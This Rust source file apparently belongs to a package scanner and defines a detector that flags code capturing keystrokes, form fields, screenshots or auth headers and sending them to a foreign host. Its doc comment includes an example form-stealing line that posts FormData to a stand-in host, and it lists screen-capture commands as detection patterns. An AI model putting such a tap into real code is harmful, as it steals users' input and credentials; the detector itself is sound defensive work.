//! What somebody types, shows or passes by is taken and sent to an address that is written in the code.
//!
//! Fields of forms, keys, pictures of the screen, headers of requests that other code makes: whoever listens for them as soon as it is loaded, for the whole
//! page or program, and sends them to a host of its own, spies. Monitoring replaces the same functions for an ordinary reason. What tells both apart:
//! monitoring is started by a call, sends to an address of its user's, or tells how long something took rather than what was typed.
//!
//! **What to do:** do not load it; exchange what was typed or sent meanwhile. **Limits:** where the address is not constant, or only a function that the caller
//! calls listens, it is told as low or medium. What is taken of a request without its credentials, and goes to a host that is called like the package, is told
//! as medium. **Example:** `document.addEventListener('submit', e => navigator.sendBeacon('https://x.invalid', new FormData(e.target)))`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/exfil-tap",
    catalogue: "EXFIL-TAP",
    title: "sends what others type, show or ask for",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    let own = package.manifest.as_ref().and_then(|m| m.name.clone()).unwrap_or_default().to_ascii_lowercase();
    for (code, from, to, _) in package.flows() {
        if from.what != What::Tapped || !matches!(to.what, What::NetSend | What::DnsQuery) {
            continue;
        }
        let address = foreign(&to.detail);
        let is_post = words::webhook(&to.detail);
        let is_own = address.as_ref().is_some_and(|address| {
            own.split(['/', '-', '_', '@']).any(|part| part.len() >= 4 && address.belongs_to(part))
        });
        let wants =
            from.detail.contains('#') && !from.detail.ends_with("#name") && !from.detail.ends_with("#data");
        let whole = !from.detail.starts_with("hook ") || wants;
        // Services for what is written are asked with what is written; under their own name.
        let is_document = from.detail.starts_with("document");
        let grade = match (early(code, to), address.is_some() || is_post) {
            (true, true) if is_document && !is_own => (High, Likely),
            _ if is_document => (Low, Likely),
            (true, true) if whole => (Critical, Sure),
            (true, true) if is_own => (Medium, Likely),
            (true, true) => (High, Likely),
            (true, false) if whole => (Medium, Likely),
            (false, true) if whole && is_device(&from.detail) => (High, Likely),
            // A worker is started by a page, not by who loads the package.
            (false, true) if from.detail.starts_with("hook page.fetch") && !is_own => (High, Likely),
            // Monitoring has no use for what lets somebody in.
            (false, true) if lets_in(&from.detail) && !is_own => (High, Likely),
            (false, true) if whole => (Medium, Likely),
            _ => (Low, Hint),
        };
        let grade = if is_asset(&to.detail) && !early(code, to) { (Low, Likely) } else { grade };
        let message = format!("sends {} to {} {}", what(&from.detail), host(&to.detail), when(code, to));
        findings.tell(code, to, grade, &message);
    }
    commands(package, findings);
}

/// Commands that take a picture of the screen, in code that sends.
fn commands(package: &Package, findings: &mut Findings) {
    const COMMANDS: &[&str] = &[
        "screencapture ",
        "gnome-screenshot",
        "scrot ",
        "import -window root",
        "savescreenshot",
        "copyfromscreen",
        "spectacle -b",
        "grim ",
    ];
    for code in &package.code {
        let Some(send) = of_file(code, What::NetSend).find(|fact| foreign(&fact.detail).is_some()) else {
            continue;
        };
        for fact in code.facts.facts.iter().filter(|f| matches!(f.what, What::Exec | What::ExecDetached)) {
            let detail = fact.detail.to_ascii_lowercase();
            let takes =
                COMMANDS.iter().any(|command| detail.starts_with(command) || detail.contains(command));
            if takes && early(code, fact) && early(code, send) {
                let message =
                    format!("takes pictures of the screen and sends something to {}", host(&send.detail));
                findings.tell(code, fact, (High, Likely), &message);
            }
        }
    }
}

/// Whether what is taken of a request is what its sender is known by.
fn lets_in(detail: &str) -> bool {
    let Some((_, part)) = detail.split_once('#').filter(|_| detail.starts_with("hook ")) else {
        return false;
    };
    let part = part.to_ascii_lowercase();
    matches!(part.as_str(), "authorization" | "cookie" | "set-cookie" | "cookies" | "password" | "x-api-key")
        || part.len() > 4 && words::is_secret_variable(&part) && part != "token"
}

/// Whether it is taken from a device, for which no page and no program of others asks.
fn is_device(detail: &str) -> bool {
    ["keyboard", "screen", "camera", "microphone"].iter().any(|device| detail.starts_with(device))
}

fn what(detail: &str) -> &'static str {
    match detail.split([' ', '#']).next().unwrap_or_default() {
        "keyboard" => "what is typed",
        "screen" => "pictures of the screen",
        "camera" => "pictures of the camera",
        "microphone" => "what the microphone hears",
        "document" => "what is written in the editor",
        "form" => "what is entered into forms",
        "clipboard" => "what is copied and pasted",
        _ => "what passes through a function that it replaced",
    }
}

/// Whether an address is one of a picture, style or font: its name may be chosen by what was typed.
fn is_asset(address: &str) -> bool {
    let path = address.split(['?', '#']).next().unwrap_or_default();
    [".svg", ".png", ".css", ".woff2", ".json", ".webp"].iter().any(|ending| path.ends_with(ending))
}
